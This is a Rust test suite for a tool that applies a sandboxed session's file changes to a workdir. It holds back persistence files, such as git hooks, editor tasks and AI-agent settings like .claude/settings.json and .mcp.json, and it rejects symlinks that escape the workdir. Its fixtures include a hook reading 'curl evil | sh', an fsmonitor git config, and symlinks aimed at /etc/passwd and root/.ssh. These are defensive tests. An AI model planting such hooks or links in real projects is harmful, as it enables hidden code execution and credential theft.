        let big = fs::File::create(upper.join("big")).unwrap();
        big.set_len(256 << 20).unwrap();
        std::os::unix::fs::FileExt::write_all_at(&big, b"data in the middle", 100 << 20).unwrap();
        drop(big);
        let changes = collect(&upper, &lower, &saved, u64::MAX).unwrap();
        let allocated = |p: &Path| fs::metadata(p).unwrap().blocks() * 512;
        let meta = fs::metadata(saved.join("big")).unwrap();
        assert_eq!(meta.len(), 256 << 20);
        assert!(allocated(&saved.join("big")) < 1 << 20, "saved dense: {}", allocated(&saved.join("big")));
        apply(&changes, &saved, &lower, false, &[]).unwrap();
        assert_eq!(fs::metadata(lower.join("big")).unwrap().len(), 256 << 20);
        assert!(allocated(&lower.join("big")) < 1 << 20, "applied dense");
        let mut middle = vec![0u8; 18];
        std::os::unix::fs::FileExt::read_exact_at(&fs::File::open(lower.join("big")).unwrap(), &mut middle, 100 << 20)
            .unwrap();
        assert_eq!(middle, b"data in the middle");
        // The holes do not count against the disk limit; the data does, before anything is
        // written.
        fs::remove_dir_all(&saved).unwrap();
        assert!(collect(&upper, &lower, &saved, 1 << 20).is_ok(), "a hole counted against the limit");
        fs::remove_dir_all(&saved).unwrap();
        fs::write(upper.join("dense"), vec![7u8; 2 << 20]).unwrap();
        let err = collect(&upper, &lower, &saved, 1 << 20).unwrap_err();
        assert!(err.get_ref().is_some_and(|e| e.is::<OverLimit>()), "{err}");
        assert!(!saved.exists(), "written before it was counted");
        fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn nothing_changed_saves_nothing_and_a_top_level_file_alone_is_saved() {
        let root = tmp("lazy");
        let (upper, lower, saved) = (root.join("upper"), root.join("lower"), root.join("saved"));
        fs::create_dir_all(&upper).unwrap();
        fs::create_dir_all(&lower).unwrap();
        assert!(collect(&upper, &lower, &saved, u64::MAX).unwrap().is_empty());
        assert!(!saved.exists(), "a session that changed nothing writes nothing");
        fs::write(upper.join("only.txt"), "x").unwrap();
        let changes = collect(&upper, &lower, &saved, u64::MAX).unwrap();
        assert_eq!(changes.len(), 1);
        assert_eq!(fs::read_to_string(saved.join("only.txt")).unwrap(), "x");
        fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn apply_holds_back_persistence_and_applies_the_rest() {
        let root = tmp("protected");
        let (saved, work) = (root.join("saved"), root.join("work"));
        fs::create_dir_all(saved.join(".git/hooks")).unwrap();
        fs::create_dir_all(saved.join("sub/.git")).unwrap();
        fs::create_dir_all(&work).unwrap();
        fs::write(saved.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
        fs::write(saved.join(".git/commondir"), "../../elsewhere/.git").unwrap();
        fs::write(saved.join("sub/.git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
        fs::write(saved.join("policy.toml"), "").unwrap();
        fs::write(saved.join("ok.txt"), "fine").unwrap();
        let c = |p: &str, kind, entry| Change { path: p.into(), kind, entry };
        let changes = [
            c(".git/commondir", ChangeKind::Added, EntryType::File),
            c(".git/hooks/pre-commit", ChangeKind::Added, EntryType::File),
            c("ok.txt", ChangeKind::Added, EntryType::File),
            c("policy.toml", ChangeKind::Modified, EntryType::File),
            c("sub/.git/config", ChangeKind::Added, EntryType::File),
        ];
        let done = apply(&changes, &saved, &work, false, &[PathBuf::from("policy.toml")]).unwrap();
        assert_eq!(done.applied, 1);
        let held: Vec<String> = done.held.iter().map(|(p, _)| p.display().to_string()).collect();
        assert_eq!(held, [".git/commondir", ".git/hooks/pre-commit", "policy.toml", "sub/.git/config"]);
        assert_eq!(fs::read_to_string(work.join("ok.txt")).unwrap(), "fine");
        for p in [".git", "sub", "policy.toml"] {
            assert!(fs::symlink_metadata(work.join(p)).is_err(), "{p} was written");
        }
        assert_eq!(apply(&changes[..2], &saved, &work, true, &[]).unwrap().applied, 2);
        assert!(work.join(".git/hooks/pre-commit").exists());
        fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn persistence_files_are_found_at_any_depth() {
        for p in [
            ".git/config",
            ".git/hooks/pre-commit",
            "vendor/lib/.git/hooks",
            ".git/modules/a/hooks/post-checkout",
            ".git/modules/a/b/modules/c/config",
            ".git/worktrees/w/commondir",
            "app/.envrc",
            ".husky/pre-push",
            "x/mise.toml",
            ".tool-versions",
            "web/.npmrc",
            "web/.yarnrc.yml",
            ".vscode/tasks.json",
            "a/.vscode/settings.json",
            "team.code-workspace",
            ".idea/workspace.xml",
            ".devcontainer/devcontainer.json",
            ".claude/settings.json",
            "pkg/.claude/settings.local.json",
            ".mcp.json",
            ".codex/config.toml",
            ".git/config.worktree",
            ".git/info/attributes",
            ".pre-commit-config.yaml",
            "lefthook.yml",
            "app/.lefthook.yml",
            "lefthook-local.yml",
            ".yarn/releases/yarn-4.cjs",
            "web/.yarn/plugins/p.cjs",
        ] {
            assert!(is_protected(Path::new(p)), "{p}");
        }
        for p in
            [".git/configs/x", ".git/objects/ab/cd", "src/config", ".vscode/launch.json", "code-workspace", "hooks"]
        {
            assert!(!is_protected(Path::new(p)), "{p}");
        }
        let file = |p: &str, entry| Change { path: p.into(), kind: ChangeKind::Added, entry };
        assert!(is_persistence(&file("sub/.git", EntryType::File), &[]), "a gitdir: file");
        assert!(is_persistence(&file(".git", EntryType::Symlink), &[]));
        assert!(!is_persistence(&file("sub/.git", EntryType::Dir), &[]));
        // A link or file standing where a pattern needs a directory: `ln -s cfg .claude`.
        for p in [".claude", "a/.vscode", ".codex", ".yarn", ".git/modules"] {
            assert!(is_persistence(&file(p, EntryType::Symlink), &[]), "{p}");
        }
        assert!(!is_persistence(&file(".claude", EntryType::Dir), &[]));
        assert!(!is_persistence(&file("claude", EntryType::Symlink), &[]));
    }

    #[test]
    fn a_repository_by_another_name_has_its_config_recognised() {
        let root = tmp("gitdir");
        for d in ["x/objects", "x/refs", "y/objects"] {
            fs::create_dir_all(root.join(d)).unwrap();
        }
        fs::write(root.join("x/HEAD"), "ref: refs/heads/main\n").unwrap();
        fs::write(root.join("y/HEAD"), "").unwrap();
        assert!(is_git_dir_config(&root, Path::new("x/config")));
        assert!(!is_git_dir_config(&root, Path::new("y/config")), "no refs: not a repository");
        assert!(!is_git_dir_config(&root, Path::new("x/HEAD")));
        fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn a_symlink_that_looks_inside_but_resolves_outside_is_held_back() {
        // `ln -s . l1; ln -s l1/l1/l1/l1/../../../../root/.ssh sub`: lexically inside, but l1 is
        // the directory itself, so the `..`s climb out. `sub` was a real directory.
        let root = tmp("loops");
        let (saved, work) = (root.join("saved"), root.join("work"));
        fs::create_dir_all(&saved).unwrap();
        fs::create_dir_all(work.join("sub")).unwrap();
        fs::write(work.join("sub/keep.txt"), "mine").unwrap();
        std::os::unix::fs::symlink(".", saved.join("l1")).unwrap();
        std::os::unix::fs::symlink("l1/l1/l1/l1/../../../../root/.ssh", saved.join("sub")).unwrap();
        std::os::unix::fs::symlink("l1/l1/../../etc", saved.join("new")).unwrap();
        std::os::unix::fs::symlink("../x", saved.join("up")).unwrap();
        let link = |p: &str| Change { path: p.into(), kind: ChangeKind::Added, entry: EntryType::Symlink };
        let mut sub = link("sub");
        sub.kind = ChangeKind::Modified;
        let changes = [link("l1"), link("new"), sub, link("up")];
        let done = apply(&changes, &saved, &work, false, &[]).unwrap();
        assert_eq!(done.applied, 1, "{:?}", done.held);
        assert!(matches!(done.held[0], (ref p, Held::SymlinkOut { .. }) if p == Path::new("new")));
        assert!(matches!(done.held[1], (ref p, Held::SymlinkOverDirectory) if p == Path::new("sub")));
        assert!(matches!(done.held[2], (ref p, Held::SymlinkOut { .. }) if p == Path::new("up")));
        assert_eq!(fs::read_to_string(work.join("sub/keep.txt")).unwrap(), "mine");
        // Never over a directory, even forced.
        let done = apply(&changes[2..3], &saved, &work, true, &[]).unwrap();
        assert_eq!(done.held.len(), 1);
        assert!(work.join("sub").is_dir() && !work.join("sub").is_symlink());
        // Inside: relative, with its `..`s first and not above the workdir.
        assert!(link_stays_inside(Path::new("a/b/link"), Path::new("../../c/d")));
        assert!(!link_stays_inside(Path::new("a/link"), Path::new("../../c")));
        assert!(!link_stays_inside(Path::new("link"), Path::new("/etc")));
        assert!(!link_stays_inside(Path::new("a/link"), Path::new("b/../..")));
        fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn apply_never_follows_a_link_it_made_earlier() {
        let root = tmp("earlier");
        let (saved, work, outside) = (root.join("saved"), root.join("work"), root.join("outside"));
        fs::create_dir_all(saved.join("d")).unwrap();
        fs::create_dir_all(&work).unwrap();
        fs::create_dir_all(&outside).unwrap();
        std::os::unix::fs::symlink(&outside, saved.join("e")).unwrap();
        fs::write(saved.join("d/f"), "x").unwrap();
        // A forged list: `e` a link out (forced), then a file through it.
        let changes = [
            Change { path: "e".into(), kind: ChangeKind::Added, entry: EntryType::Symlink },
            Change { path: "e/f".into(), kind: ChangeKind::Added, entry: EntryType::File },
        ];
        let e = apply(&changes, &saved, &work, true, &[]).unwrap_err();
        assert!(matches!(e, ApplyError::Io { .. }), "{e}");
        assert!(!outside.join("f").exists(), "a file was written through the link");
        fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn apply_refuses_symlinks_out_of_the_workdir_and_paths_through_symlinks() {
        let root = tmp("refuse");
        let (saved, work) = (root.join("saved"), root.join("work"));
        fs::create_dir_all(&saved).unwrap();
        fs::create_dir_all(&work).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", saved.join("evil")).unwrap();
        let link = Change { path: "evil".into(), kind: ChangeKind::Added, entry: EntryType::Symlink };
        let done = apply(&[link], &saved, &work, false, &[]).unwrap();
        assert!(matches!(done.held[..], [(_, Held::SymlinkOut { .. })]), "{:?}", done.held);
        assert!(fs::symlink_metadata(work.join("evil")).is_err());
        std::os::unix::fs::symlink("/tmp", work.join("d")).unwrap();
        let through = Change { path: "d/x".into(), kind: ChangeKind::Added, entry: EntryType::File };
        assert!(matches!(apply(&[through], &saved, &work, false, &[]), Err(ApplyError::Unsafe(_))));
        fs::remove_dir_all(&root).unwrap();
    }
}
